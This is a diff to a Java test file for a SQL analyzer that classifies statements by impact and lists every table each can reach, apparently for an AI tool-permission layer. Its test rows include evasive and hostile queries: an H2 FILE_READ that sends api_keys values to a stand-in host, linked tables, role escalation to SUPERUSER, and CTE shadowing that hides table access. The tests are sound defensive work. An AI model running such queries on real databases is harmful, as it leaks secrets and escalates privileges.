@@ -3,6 +3,8 @@ package dev.leash.tools.sql;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.leash.api.tool.Impact;
+import java.util.List;
+import java.util.Locale;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -15,6 +17,7 @@ class SqlAnalysisTest {
         "H2 ## SELECT FILE_READ('https://c.example/?k=' || (SELECT v FROM api_keys)) ## IRREVERSIBLE ## sql.function ## FILE_READ",
         "H2 ## SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC') ## IRREVERSIBLE ## sql.function ## LINK_SCHEMA",
         "H2 ## SELECT NEXT VALUE FOR seq ## IRREVERSIBLE ## sql.function ## NEXT VALUE FOR",
+        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## IRREVERSIBLE ## sql.function ## LINKED TABLE",
         "H2 ## SELECT my_alias(1) ## IRREVERSIBLE ## sql.function ## MY_ALIAS",
         "H2 ## SELECT UPPER(name) FROM t ## READ ## sql.read ## query",
         "POSTGRESQL ## SELECT setval('s', 1) ## IRREVERSIBLE ## sql.function ## SETVAL",
@@ -36,6 +39,20 @@ class SqlAnalysisTest {
         "POSTGRESQL ## SELECT 1 /* a /* b */ */ ## IRREVERSIBLE ## sql.unparsed ## nested",
         "POSTGRESQL ## SELECT 1; SELECT nextval('s') ## IRREVERSIBLE ## sql.function ## NEXTVAL",
         "POSTGRESQL ## SELECT generate_series(1, 3) ## READ ## sql.read ## query",
+        "H2 ## SELECT FILTER() ## IRREVERSIBLE ## sql.function ## FILTER is a keyword",
+        "H2 ## SELECT id FROM t WHERE VARCHAR() > 0 ## IRREVERSIBLE ## sql.function ## VARCHAR",
+        "POSTGRESQL ## SELECT * FROM t WHERE key() > 0 ## IRREVERSIBLE ## sql.function ## KEY",
+        "POSTGRESQL ## SELECT COALESCE(NULL, rows()) ## IRREVERSIBLE ## sql.function ## ROWS",
+        "UNKNOWN ## SELECT cube() ## IRREVERSIBLE ## sql.function ## CUBE",
+        "POSTGRESQL ## SELECT COUNT(*) FILTER (WHERE a > 1) FROM t ## READ ## sql.read ## query",
+        "H2 ## SELECT COUNT(*) FILTER (WHERE a > 1) FROM t ## READ ## sql.read ## query",
+        "POSTGRESQL ## SELECT a, SUM(b) FROM t GROUP BY CUBE(a) ## READ ## sql.read ## query",
+        "POSTGRESQL ## SELECT a, GROUPING(a) FROM t GROUP BY ROLLUP(a) ## READ ## sql.read ## query",
+        "H2 ## SELECT CAST(a AS VARCHAR(10)), CAST(b AS DECIMAL(10, 2)) FROM t ## READ ## sql.read ## query",
+        "H2 ## SELECT ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) FROM t ## READ ## sql.read ## query",
+        "POSTGRESQL ## SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t ## READ ## sql.read ## query",
+        "H2 ## SELECT PERCENTILE_DISC(0.5) WITHIN GROUP (ORDER BY a) FROM t ## READ ## sql.read ## query",
+        "H2 ## SELECT \"GROUP\"(1) ## IRREVERSIBLE ## sql.function ## quoted",
         "UNKNOWN ## SELECT lower('x') ## IRREVERSIBLE ## sql.function ## unknown database",
         "UNKNOWN ## SELECT * FROM t ## READ ## sql.read ## query",
     })
@@ -74,6 +91,55 @@ class SqlAnalysisTest {
         SqlAnalysis analysis = SqlAnalysis.of(sql, SqlDialect.POSTGRESQL);
 
         assertThat(analysis.impactReason()).get().extracting(r -> r.riskFlag()).as(analysis.rule()).isEqualTo(hidden);
+    }
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiterString = " ## ", value = {
+        // a CTE named like a table hides the table only where the CTE is in scope
+        "H2 ## WITH api_keys AS (SELECT * FROM api_keys) SELECT * FROM api_keys ## api_keys",
+        "POSTGRESQL ## WITH a AS (SELECT * FROM api_keys), api_keys AS (SELECT 1 AS v) SELECT * FROM a ## api_keys",
+        "POSTGRESQL ## SELECT * FROM (WITH api_keys AS (SELECT 1 AS v) SELECT * FROM api_keys) x, api_keys ## api_keys",
+        "POSTGRESQL ## WITH RECURSIVE a AS (SELECT * FROM api_keys), api_keys AS (SELECT 1 AS v) SELECT * FROM a ## api_keys",
+        // subqueries in every clause
+        "H2 ## SELECT * FROM orders ORDER BY (SELECT MAX(v) FROM api_keys) ## orders, api_keys",
+        "POSTGRESQL ## SELECT id FROM orders WINDOW w AS (ORDER BY (SELECT MAX(v) FROM api_keys)) ## orders, api_keys",
+        "POSTGRESQL ## SELECT COUNT(*) FILTER (WHERE id IN (SELECT id FROM api_keys)) FROM orders ## orders, api_keys",
+        "H2 ## SELECT * FROM orders OFFSET (SELECT COUNT(*) FROM api_keys) ROWS ## orders, api_keys",
+        "POSTGRESQL ## SELECT DISTINCT ON ((SELECT MAX(v) FROM api_keys)) id FROM orders ## orders, api_keys",
+        "POSTGRESQL ## SELECT string_agg(item, ',' ORDER BY (SELECT MAX(v) FROM api_keys)) FROM orders ## orders, api_keys",
+        "H2 ## SELECT ROW_NUMBER() OVER (PARTITION BY (SELECT MAX(v) FROM api_keys)) FROM orders ## orders, api_keys",
+        "POSTGRESQL ## SELECT * FROM (TABLE api_keys) x ## api_keys",
+        // functions that may use tables the text does not name
+        "POSTGRESQL ## SELECT table_to_xml('api_keys', true, true, '') ## (unknown)",
+        "POSTGRESQL ## SELECT query_to_xml('SELECT * FROM api_keys', true, true, '') ## (unknown)",
+        "H2 ## SELECT my_alias(id) FROM orders ## orders, (unknown)",
+        "POSTGRESQL ## SELECT public.nextval('s') ## (unknown)",
+        // statements the parser only knows by their first words: any table, and so none the allowlist admits
+        "H2 ## CREATE TRIGGER t BEFORE INSERT ON orders CALL 'org.example.Trigger' ## (unknown)",
+        "POSTGRESQL ## ALTER ROLE x SUPERUSER ## (unknown)",
+        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## l, (unknown)",
+        // benign twins: exactly the tables they use
+        "H2 ## WITH big AS (SELECT * FROM orders WHERE amount > 100) SELECT * FROM big ## orders",
+        "POSTGRESQL ## WITH big AS (SELECT * FROM orders), bigger AS (SELECT * FROM big) SELECT * FROM bigger ## orders",
+        "POSTGRESQL ## WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 3) SELECT * FROM n ## ",
+        "POSTGRESQL ## WITH RECURSIVE api_keys(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## ",
+        "H2 ## WITH RECURSIVE api_keys(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## api_keys",
+        "H2 ## WITH RECURSIVE api_keys(id) AS (SELECT id FROM api_keys UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## api_keys",
+        "H2 ## WITH x AS (SELECT 1) SELECT * FROM x, (WITH y AS (SELECT 2) SELECT * FROM y, x) z ## ",
+        "POSTGRESQL ## SELECT o.id, o.* FROM orders o ORDER BY o.id ## orders",
+        "H2 ## SELECT orders.id FROM public.orders ## public.orders",
+        "POSTGRESQL ## SELECT * FROM orders ORDER BY (SELECT MAX(amount) FROM payments WHERE payments.id = orders.id) ## orders, payments",
+        "POSTGRESQL ## TABLE orders ## orders",
+        "POSTGRESQL ## SELECT nextval('s') ## ",
+        "POSTGRESQL ## SELECT pg_advisory_lock(1) ## ",
+        "H2 ## SELECT UPPER(item), COUNT(*) FROM orders GROUP BY item ## orders",
+        "H2 ## CREATE TABLE IF NOT EXISTS x(id INT) ## x",
+        "H2 ## DROP TABLE IF EXISTS x ## x",
+    })
+    void theTablesNamedAreEveryTableTheStatementCanUse(SqlDialect dialect, String sql, String expected) {
+        List<String> tables = SqlAnalysis.of(sql, dialect).tables().stream().map(t -> t.toLowerCase(Locale.ROOT)).toList();
+
+        assertThat(tables).as(sql).containsExactlyInAnyOrder(expected == null ? new String[0] : expected.split(", "));
     }
 
     @Test
